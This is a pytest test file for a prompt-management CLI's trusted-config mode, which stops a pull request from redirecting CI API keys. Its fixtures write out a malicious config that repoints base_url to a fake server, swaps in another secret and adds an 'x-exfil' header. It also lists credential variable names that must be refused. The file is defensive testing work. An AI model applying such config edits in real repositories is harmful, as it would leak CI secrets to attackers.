"""A change under review cannot redirect a key (issue 9): trusted configuration for CI jobs."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from promptctl.errors import PromptctlWarning, UsageError
from promptctl.project import config
from tests.conftest import FAKE_KEY
from tests.fakes.llm_server import FakeLLMServer
from tests.secrets_scan import assert_no_secret, assert_no_secret_in_dir

# the CLI prints "ignored under --trusted-config-ref" as a warning line; tests read it there
pytestmark = pytest.mark.filterwarnings("default::promptctl.errors.PromptctlWarning")

OTHER_KEY = "sk-other-SECRET-0987654321fedcba"  # another secret the CI job happens to hold

BASE_CONFIG = """\
providers:
  fake: {{type: openai, base_url: '{url}', api_key_env: FAKE_API_KEY, max_retries: 0}}
prices:
  fake/m: {{input: 1.0, output: 2.0}}
defaults:
  judge_model: fake/judge
"""
PROMPT = "model: fake/m\ntemplate: 'hello {{ who }}'\n"


@pytest.fixture
def pr_server() -> Iterator[FakeLLMServer]:
    """The server a malicious pull request would like the key sent to."""
    server = FakeLLMServer().start()
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture
def ci(git_project: Any, llm_server: FakeLLMServer, monkeypatch: pytest.MonkeyPatch) -> Any:
    """main holds the trusted promptctl.yaml; a branch `pr` then edits it."""
    monkeypatch.setenv("FAKE_API_KEY", FAKE_KEY)
    monkeypatch.setenv("OTHER_API_KEY", OTHER_KEY)
    monkeypatch.delenv(config.TRUSTED_REF_ENV, raising=False)
    git_project.write("promptctl.yaml", BASE_CONFIG.format(url=llm_server.openai_base))
    git_project.write("prompts/p.yaml", PROMPT)
    git_project.commit("base")
    git_project.git("checkout", "-q", "-b", "pr")
    return git_project


def _pr_edits_config(ci: Any, pr_server: FakeLLMServer, key_env: str = "OTHER_API_KEY") -> None:
    ci.write(
        "promptctl.yaml",
        f"""\
        providers:
          fake: {{type: openai, base_url: '{pr_server.openai_base}', api_key_env: {key_env},
                  headers: {{x-exfil: yes}}}}
          evil: {{type: openai, base_url: '{pr_server.openai_base}', api_key_env: FAKE_API_KEY}}
        prices:
          fake/m: {{input: 0.0, output: 0.0}}
        defaults:
          judge_model: evil/judge
        paths:
          prompts: prompts
        """,
    )
    ci.commit("PR: 'tidy' promptctl.yaml")


def test_trusted_mode_takes_key_routing_prices_and_paths_from_the_ref(
    ci: Any, llm_server: FakeLLMServer, pr_server: FakeLLMServer
) -> None:
    _pr_edits_config(ci, pr_server)
    ci.write("promptctl.yaml", ci.read("promptctl.yaml").replace("prompts: prompts", "prompts: p2"))
    with pytest.warns(PromptctlWarning) as caught:
        project = config.load_project(root=ci.root, trusted_ref="main")
    assert str(caught[0].message) == (
        "ignored under --trusted-config-ref main: defaults.judge_model, paths.prompts, "
        "prices.fake/m, providers.evil, providers.fake (the values committed at main apply)"
    )
    assert project.trusted_ref == "main"
    fake = project.config.providers["fake"]
    assert (fake.base_url, fake.api_key_env, dict(fake.headers)) == (
        llm_server.openai_base,
        "FAKE_API_KEY",
        {},
    )
    assert "evil" not in project.config.providers
    assert project.config.prices == {"fake/m": {"input": 1.0, "output": 2.0}}
    assert project.config.defaults.judge_model == "fake/judge"
    assert project.prompts_dir == ci.root / "prompts"  # paths: the trusted ones too (issue 19)
    untrusted = config.load_project(root=ci.root)
    assert untrusted.config.providers["fake"].base_url == pr_server.openai_base
    assert untrusted.trusted_ref is None


@pytest.mark.parametrize("via", ["flag", "env"])
def test_a_pr_changing_base_url_and_key_variable_sends_no_key_anywhere_new(
    ci: Any,
    llm_server: FakeLLMServer,
    pr_server: FakeLLMServer,
    monkeypatch: pytest.MonkeyPatch,
    via: str,
) -> None:
    _pr_edits_config(ci, pr_server)
    args = ["run", "p", "--var", "who=world"]
    if via == "flag":
        args += ["--trusted-config-ref", "main"]
    else:
        monkeypatch.setenv(config.TRUSTED_REF_ENV, "main")
    result = ci.run(*args)
    assert result.code == 0, result.err
    assert result.out == "hello world\n"
    assert pr_server.total == 0
    assert llm_server.total == 1
    sent = llm_server.requests[0].headers
    assert sent["authorization"] == f"Bearer {FAKE_KEY}"
    assert "x-exfil" not in sent
    assert_no_secret(result.out, result.err)
    assert_no_secret(result.out, result.err, key=OTHER_KEY)
    assert_no_secret_in_dir(ci.root)
    assert_no_secret_in_dir(ci.root, key=OTHER_KEY)


def test_without_trusted_mode_the_pr_config_is_what_runs(
    ci: Any, llm_server: FakeLLMServer, pr_server: FakeLLMServer
) -> None:
    # the control: this is the attack the trusted mode stops
    _pr_edits_config(ci, pr_server)
    result = ci.run("run", "p", "--var", "who=world")
    assert result.code == 0, result.err
    assert llm_server.total == 0
    assert pr_server.total == 1
    assert pr_server.requests[0].headers["authorization"] == f"Bearer {OTHER_KEY}"


def test_a_provider_added_by_the_pr_is_unknown_under_trusted_mode(
    ci: Any, llm_server: FakeLLMServer, pr_server: FakeLLMServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    _pr_edits_config(ci, pr_server)
    ci.write("prompts/p.yaml", "model: evil/m\ntemplate: hi\n")
    monkeypatch.setenv(config.TRUSTED_REF_ENV, "main")
    result = ci.run("run", "p")
    assert result.code == 2
    assert "unknown provider 'evil'" in result.err
    assert pr_server.total == 0 and llm_server.total == 0
    assert_no_secret(result.out, result.err)


def test_an_unknown_trusted_ref_is_a_usage_error_that_says_to_fetch(ci: Any) -> None:
    with pytest.raises(UsageError) as info:
        config.load_project(root=ci.root, trusted_ref="origin/nope")
    assert "origin/nope" in info.value.message
    assert "fetch" in (info.value.hint or "")


def test_no_config_at_the_trusted_ref_means_builtin_providers_only(
    git_project: Any, llm_server: FakeLLMServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FAKE_API_KEY", FAKE_KEY)
    git_project.write("prompts/p.yaml", PROMPT)
    git_project.commit("base without promptctl.yaml")
    git_project.write("promptctl.yaml", BASE_CONFIG.format(url=llm_server.openai_base))
    with pytest.warns(PromptctlWarning) as warned:
        project = config.load_project(root=git_project.root, trusted_ref="HEAD")
    # the working tree's settings are named as ignored, not silently dropped
    assert "providers.fake" in str(warned[0].message)
    assert dict(project.config.providers) == {}
    assert dict(project.config.prices) == {}
    monkeypatch.setenv(config.TRUSTED_REF_ENV, "HEAD")
    result = git_project.run("run", "p", "--var", "who=x")
    assert result.code == 2
    assert "unknown provider 'fake'" in result.err
    assert llm_server.total == 0


def test_a_broken_config_at_the_trusted_ref_names_the_ref(git_project: Any) -> None:
    git_project.write("promptctl.yaml", "providers:\n  x: {type: nope}\n")
    git_project.commit("broken")
    git_project.write("promptctl.yaml", "paths: {prompts: prompts}\n")
    with pytest.raises(UsageError) as info:
        config.load_project(root=git_project.root, trusted_ref="HEAD")
    assert str(info.value.where).startswith("promptctl.yaml@HEAD:2:")
    assert "unknown type 'nope'" in info.value.message


@pytest.mark.parametrize(
    "key_env",
    [
        "GITHUB_TOKEN",
        "GITHUB_DEPLOY_KEY",
        "ACTIONS_RUNTIME_TOKEN",
        "ACTIONS_ID_TOKEN_REQUEST_KEY",
        "RUNNER_SIGNING_KEY",
        "AWS_SECRET_ACCESS_KEY",
        "SSH_PRIVATE_KEY",
        "GPG_PRIVATE_KEY",
        "PYPI_DEPLOY_KEY",
        "COSIGN_SIGNING_KEY",
        "MY_SECRET_KEY_KEY",
        "HOME",
        "PATH",
        "OPENAI_API_KEY_FILE",
        "lower_api_key",
    ],
)
def test_api_key_env_must_name_an_api_key_variable(project: Any, key_env: str) -> None:
    project.write(
        "promptctl.yaml",
        f"providers:\n  p: {{type: openai, base_url: 'http://127.0.0.1:9/v1', "
        f"api_key_env: {key_env}}}\n",
    )
    project.write("prompts/p.yaml", "model: p/m\ntemplate: hi\n")
    result = project.run("run", "p")
    assert result.code == 2
    assert "promptctl.yaml:2:" in result.err
    assert f"api_key_env {key_env!r} is not an API key variable" in result.err
    assert "_API_KEY" in result.err


@pytest.mark.parametrize("key_env", ["OPENAI_API_KEY", "OLLAMA_KEY", "AZURE_OPENAI_API_KEY"])
def test_api_key_env_accepts_api_key_names(project: Any, key_env: str) -> None:
    project.write(
        "promptctl.yaml",
        f"providers:\n  p: {{type: openai, base_url: 'http://x/v1', api_key_env: {key_env}}}\n",
    )
    assert config.load_project(root=project.root).config.providers["p"].api_key_env == key_env
